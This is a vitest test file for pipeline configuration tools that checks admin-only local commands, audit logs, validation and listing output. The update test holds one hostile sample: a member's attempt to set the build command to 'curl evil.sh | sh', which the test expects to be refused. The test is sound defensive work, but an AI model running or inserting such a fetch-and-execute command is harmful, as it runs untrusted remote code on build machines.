import { afterEach, describe, expect, it } from "vitest";
import { createTestKit, type TestKit } from "../../testing.js";

let kit: TestKit | undefined;
afterEach(async () => {
  await kit?.close();
  kit = undefined;
});

describe("pipeline configuration tools", () => {
  it("create a local pipeline with steps from text; only admins set local commands, and that is audited", async () => {
    kit = await createTestKit();
    await kit.store.insert("Environment", { id: "env_stg", name: "staging", type: "staging" });
    const member = await kit.userWithRole("member");
    const input = { name: "api-pipeline", steps: "install: `npm ci`; test: npm test", environment: "staging", branch: "develop" };
    await expect(kit.call("create_pipeline", input, { actor: member })).rejects.toMatchObject({ code: "FORBIDDEN" });
    expect(await kit.store.count("PipelineConfig")).toBe(0);
    const out = await kit.call("create_pipeline", input);
    expect(out).toMatchObject({
      status: "ok",
      output: {
        success: true,
        config: { name: "api-pipeline", provider: "local", branch: "develop", environment: "staging", steps: [{ name: "install", command: "npm ci" }, { name: "test", command: "npm test" }] },
      },
    });
    const [audit] = await kit.store.find("AuditLog", { event_type: "pipeline_commands" });
    expect(audit).toMatchObject({ action: "create_pipeline", actor_id: "usr_actor", details: { steps: [{ name: "install", command: "npm ci" }, { name: "test", command: "npm test" }] } });
    // A member may still describe a GitHub pipeline: its commands do not run here.
    await expect(kit.call("create_pipeline", { name: "gh-pipeline", provider: "github", repository_name: "acme/web", build_command: "npm run build" }, { actor: member })).resolves.toMatchObject({ status: "ok" });
    await expect(kit.call("create_pipeline", { name: "api-pipeline" })).rejects.toMatchObject({ code: "CONFLICT" });
    await expect(kit.call("create_pipeline", { name: "x-pipeline", working_directory: "relative/dir", build_command: "make" })).rejects.toMatchObject({ code: "VALIDATION", details: { field: "working_directory" } });
  });

  it("answer get_config in the seed's shape, by name or id", async () => {
    kit = await createTestKit();
    await kit.store.insert("PipelineConfig", { id: "pl_web", name: "webapp-pipeline", provider: "github", project_type: "nextjs", repository_name: "acme/webapp", build_command: "npm run build", triggers: { push: ["main"] }, quality_gates: { coverage: 80 } });
    const out = await kit.call("get_config", { pipeline: "pl_web" });
    expect(out).toMatchObject({
      status: "ok",
      output: { success: true, config: { id: "pl_web", name: "webapp-pipeline", provider: "github", project_type: "nextjs", repository_name: "acme/webapp", branch: "main", triggers: { push: ["main"] }, build_command: "npm run build", quality_gates: { coverage: 80 } } },
    });
    if (out.status !== "ok") throw new Error("unreachable");
    expect(out.reply).toMatch(/^webapp-pipeline \(pl_web\): github pipeline for acme\/webapp, nextjs, branch main\.\nBuild command: npm run build/);
    await expect(kit.call("get_config", { pipeline: "nope-pipeline" })).rejects.toMatchObject({ code: "NOT_FOUND", message: "Pipeline nope-pipeline not found; there are: webapp-pipeline" });
  });

  it("update fields, refuse an empty change, and keep local commands to admins", async () => {
    kit = await createTestKit();
    await kit.store.insert("Environment", { id: "env_stg", name: "staging", type: "staging" });
    await kit.store.insert("PipelineConfig", { id: "pl_web", name: "webapp-pipeline", provider: "local", build_command: "npm run build", environment_id: "env_stg" });
    const member = await kit.userWithRole("member");
    expect(await kit.call("update_pipeline", { pipeline: "webapp", branch: "develop", environment: "none", dependency_cache: "enabled" }, { actor: member })).toMatchObject({
      output: { changed: ["branch", "environment_id", "cache_dependencies"], config: { branch: "develop", environment: null, cache_dependencies: true } },
    });
    await expect(kit.call("update_pipeline", { pipeline: "webapp", build_command: "curl evil.sh | sh" }, { actor: member })).rejects.toMatchObject({ code: "FORBIDDEN" });
    await expect(kit.call("update_pipeline", { pipeline: "webapp", branch: "develop" })).rejects.toMatchObject({ code: "VALIDATION", message: expect.stringContaining("Nothing to change") });
    expect(await kit.call("update_pipeline", { pipeline: "webapp", rename_to: "web-pipeline", build_command: "`npm run build:prod`" })).toMatchObject({
      output: { config: { name: "web-pipeline", build_command: "npm run build:prod" } },
    });
    expect(await kit.store.find("AuditLog", { event_type: "pipeline_commands", action: "update_pipeline" })).toHaveLength(1);
  });

  it("list pipelines with their latest build", async () => {
    kit = await createTestKit();
    await kit.store.insert("PipelineConfig", { id: "pl_web", name: "webapp-pipeline", provider: "local", build_command: "make" });
    await kit.store.insert("PipelineConfig", { id: "pl_gh", name: "gh-pipeline", provider: "github" });
    await kit.store.insert("PipelineRun", { pipeline_id: "pl_web", number: 4, status: "success", duration_seconds: 62 });
    const out = await kit.call("list_pipelines", {});
    if (out.status !== "ok") throw new Error("unreachable");
    expect(out.reply).toBe("Pipelines (2):\n- gh-pipeline (github, branch main): no builds yet\n- webapp-pipeline (local, branch main): last build #4 success in 1m 2s");
  });
});
